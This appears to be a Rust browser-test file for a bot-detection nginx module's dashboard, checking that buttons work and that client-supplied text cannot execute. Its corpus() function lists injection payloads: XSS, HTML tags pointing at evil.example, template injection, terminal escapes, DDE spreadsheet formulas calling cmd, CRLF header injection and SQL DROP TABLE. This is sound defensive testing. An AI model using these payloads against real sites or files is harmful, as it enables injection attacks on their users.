//! Pages of clients in Chromium: on a real nginx each button does what it says, and nothing that a client sent does anything.

use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::thread;
use std::time::{SystemTime, UNIX_EPOCH};

use sekisho_core::feature::{COUNT, schema_hash};
use sekisho_core::sample::{Kind, Sample, VERSION};
use sekisho_tests::dashboard::Bench;
use sekisho_tests::nginx::Module;
use sekisho_tests::source::root;
use sekisho_tests::visitors::{checked, site};
use serde_json::{Value, json};

/// Within the server: enforcement with a status of its own, a list that the dashboard edits, and the API.
const LOCATIONS: &str = "
    sekisho_dry_run off;
    sekisho_rejected status=403;
    sekisho_allow file=%DIR%/allowed;
    location / { }
    location /sekisho/ { sekisho_api; allow 127.0.0.1; deny all; }
";
const PERSON: &str = "192.0.2.7";
const CRAWLER: &str = "198.51.100.9";

/// Over 20 s: Chromium goes through every page, and nginx reads its lists once a second.
#[test]
fn every_button_about_a_client_does_what_it_says() {
    let site = site(Module::Production);
    site.write("allowed", b"# nobody yet\n203.0.113.250\n");
    let folder = site.path().to_owned();
    let nginx = site.start(&checked(
        "sekisho_samples %DIR%/samples contrast=100%;",
        LOCATIONS,
    ));
    let referer = ("Referer", "http://shop.test/index.html");
    for number in 0..12 {
        let target = if number % 2 == 0 {
            "/page.html"
        } else {
            "/style.css"
        };
        nginx.get(target, &[("X-Real-IP", PERSON), referer]);
    }
    for number in 0..40 {
        nginx.get(&format!("/page.html?item={number}"), &[("X-Real-IP", CRAWLER)]);
    }
    let bench = Bench::new(&format!(
        "[[samples]]\npath = {:?}\nname = \"shop\"\n[[nginx]]\nname = \"shop\"\npoll_seconds = 1\n\
         api = \"http://127.0.0.1:{}/sekisho/\"\nallow_file = {:?}\n",
        folder.join("samples"),
        nginx.port(),
        folder.join("allowed"),
    ));
    let mut dashboard = bench.start();
    dashboard.user("olga", "operator");
    dashboard.user("vic", "viewer");
    let more = json!({
        "nginx": format!("http://127.0.0.1:{}", nginx.port()), "person": PERSON, "crawler": CRAWLER,
    });
    dashboard.browse("clients", more);
}

/// What attackers send: markup, scripts, pictures, templates, escapes of terminals, marks that turn text, formulas.
fn corpus() -> Vec<String> {
    let texts = [
        "<script>window.marked=1</script>",
        "\"><script>window.marked=1</script>",
        "'><img src=x onerror=window.marked=1>",
        "</title><svg onload=window.marked=1>",
        "</svg><script>window.marked=1</script><svg>",
        "<svg><animate onbegin=window.marked=1 attributeName=x dur=1s>",
        "<iframe src=http://evil.example/></iframe>",
        "<base href=http://evil.example/>",
        "<meta http-equiv=refresh content=0;url=http://evil.example/>",
        "<link rel=stylesheet href=http://evil.example/a.css>",
        "<form action=http://evil.example/><input name=csrf>",
        "javascript:window.marked=1",
        "data:text/html,<script>window.marked=1</script>",
        "{{7*7}}template${7*7}template{%7*7%}template#{7*7}template",
        "\" hx-get=\"http://evil.example/\" hx-trigger=\"load",
        "\" onmouseover=\"window.marked=1\" style=\"position:fixed;inset:0",
        "\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}",
        "\u{202e}gpj.exe\u{2066}\u{200b}\u{feff}\u{9b}31m",
        "=HYPERLINK(\"http://evil.example\",\"a\")",
        "+1+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "-2+3",
        "\t=1+1",
        "a;=HYPERLINK(\"http://evil.example/\",\"x\")",
        "a; \"=1+1\";\"+1",
        "\u{ff1d}1+1\n\u{ff0b}1",
        "a\r\nSet-Cookie: marked=1",
        "' OR 1=1; DROP TABLE client; --",
        "%3Cscript%3Ewindow.marked=1%3C/script%3E",
        "&lt;script&gt;window.marked=1&lt;/script&gt;",
        "]]><!--<x>",
        "\\u003cscript\\u003ewindow.marked=1",
    ];
    let mut all: Vec<String> = texts.iter().map(|text| (*text).to_owned()).collect();
    all.push("<".repeat(400));
    all
}

/// Samples in which each text stands wherever a client, or a key, can put one.
fn samples(now: u32) -> Vec<u8> {
    let mut lines = Vec::new();
    for (number, text) in (0u32..).zip(corpus()) {
        for place in 0..6u32 {
            let sample = Sample {
                version: VERSION,
                kind: Kind::Flagged,
                id: if place == 5 {
                    text.clone()
                } else {
                    format!("{:016x}", number * 16 + place)
                },
                at: now - 600 + number * 6 + place,
                // Few zones: each page has them all in a list.
                zone: if number < 4 {
                    text.clone()
                } else {
                    "clients".into()
                },
                client: text.clone(),
                requests: 10 + place * 32,
                score: Some(0.97),
                challenger: None,
                label: None,
                verdict: if place == 3 {
                    text.clone()
                } else {
                    "REJECTED".into()
                },
                reasons: vec![text.clone(), "distinct_url_ratio".into()],
                schema: schema_hash().into(),
                features: vec![0.25; COUNT],
                model: if place == 4 { text.clone() } else { "ab".repeat(32) },
                method: text.chars().take(40).collect(),
                target: text.clone(),
            };
            lines.extend(sample.to_line().expect("a line"));
            lines.push(b'\n');
        }
    }
    lines
}

/// What answers as the module's interface does, with texts of attackers for names of zones and models.
fn untrue_nginx(zones: &[String]) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let address = listener.local_addr().expect("an address");
    let zone = |name: &String| {
        json!({"name": name, "key": name, "bytes": 1, "since": 1, "clients": {"capacity": 9, "held": 7, "estimated": false},
            "counters": {"requests": 9, "passed": 4, "rejected": 5},
            "guards": {"open_until": null, "clients_share": 2, "requests_share": 31, "proxy_share": 99}})
    };
    let zones: Vec<Value> = zones.iter().map(zone).collect();
    let status = json!({"version": "0.1.0", "nginx_version": "1.22.1", "now": 9, "configured_at": 1, "uptime_seconds": 8,
        "workers": [{"pid": 1, "generation": 1, "started_at": 1, "model": corpus()[0], "loaded_at": 1, "challenger": null,
            "swaps": 0, "refusals": 0}],
        "totals": {"samples_written": 1}, "zones": zones});
    thread::spawn(move || {
        for mut stream in listener.incoming().map_while(Result::ok) {
            let mut request = [0; 4096];
            let length = stream.read(&mut request).unwrap_or_default();
            let body = match &request[..length] {
                asked if asked.starts_with(b"GET /v1/status") => status.to_string(),
                asked if asked.starts_with(b"GET /v1/metrics") => String::new(),
                _ => json!({"error": {"code": "no_zone", "message": corpus()[0]}}).to_string(),
            };
            let head = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close";
            let _ = write!(stream, "{head}\r\nContent-Length: {}\r\n\r\n{body}", body.len());
        }
    });
    format!("http://{address}/")
}

/// Over 20 s: thirty texts in some fifteen places, each a page.
#[test]
fn nothing_that_a_client_sent_does_anything() {
    let zones: Vec<String> = corpus().into_iter().take(4).collect();
    let bench = Bench::new(&format!(
        "[[nginx]]\nname = \"shop\"\napi = \"{}\"\npoll_seconds = 1\n",
        untrue_nginx(&zones)
    ));
    let now = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .expect("after 1970")
        .as_secs();
    fs::write(bench.path("samples"), samples(now as u32)).expect("own directory");
    bench.run(&["serve", "--once"], "");
    let texts = corpus();
    bench.run(&["explain", "--rules", &texts[8]], "");
    let note = "<script>window.marked=1</script>{{7*7}}";
    bench.run(
        &["label", "add", "--class", "crawler", "--note", note, &texts[5]],
        "",
    );
    let mut dashboard = bench.start();
    dashboard.user("olga", "operator");
    dashboard.user("vic", "viewer");
    dashboard.browse("hostile", json!({ "corpus": texts, "zones": zones }));
}

/// A site of a past day, the same each time: people, and two kinds of crawlers.
fn past() -> Vec<u8> {
    // 26 October 2026; the store of the test keeps samples for years.
    const AT: u32 = 1_793_000_000;
    let mut lines = Vec::new();
    for client in 0..60u32 {
        let crawler = client.is_multiple_of(3);
        for number in 0..if crawler { 40 } else { 4 } {
            let place = client * 64 + number;
            let feature = |index: usize| {
                let own = (client * 7 + index as u32 * 13) % 20;
                if crawler {
                    0.6 + own as f32 / 100.0
                } else {
                    0.1 + own as f32 / 50.0
                }
            };
            let sample = Sample {
                version: VERSION,
                kind: if crawler { Kind::Flagged } else { Kind::Contrast },
                id: format!("{place:016x}"),
                at: AT + client * 11 + number * if client == 3 { 300 } else { 97 + client },
                zone: "clients".into(),
                client: format!("198.51.{}.{}", client / 8, client + 1),
                requests: 10 + number * 32,
                score: Some(if crawler {
                    0.9 + (number % 7) as f32 / 100.0
                } else {
                    0.1
                }),
                challenger: None,
                label: None,
                verdict: if crawler { "REJECTED" } else { "PASSED" }.into(),
                reasons: vec!["distinct_url_ratio".into()],
                schema: schema_hash().into(),
                features: (0..COUNT).map(feature).collect(),
                model: "ab".repeat(32),
                method: "GET".into(),
                target: format!("/shop/item-{place}"),
            };
            lines.extend(sample.to_line().expect("a line"));
            lines.push(b'\n');
        }
    }
    lines
}

/// Over 20 s: four pages at three widths.
#[test]
fn pages_look_as_they_did() {
    let bench = Bench::new("");
    let file = bench.path("sekisho.toml");
    let text = fs::read_to_string(&file).expect("own directory");
    let text = text.replace("[store]\n", "[store]\nretention_days = 3650\n");
    fs::write(file, text).expect("own directory");
    fs::write(bench.path("samples"), past()).expect("own directory");
    bench.run(&["serve", "--once"], "");
    let mut dashboard = bench.start();
    dashboard.user("vic", "viewer");
    let failed = root().join("target/looks");
    fs::create_dir_all(&failed).expect("target/ can be written");
    let more = json!({
        "folder": root().join("tests/browser/looks"),
        "failed": failed,
        "paths": {
            "clients": "/clients?order=requests",
            "client": "/clients/4",
            "pictures": "/clients/4#pictures",
            "groups": "/groups?range=all",
            "look-up": "/look-up?id=00000000000000c0",
        },
    });
    dashboard.browse("looks", more);
}
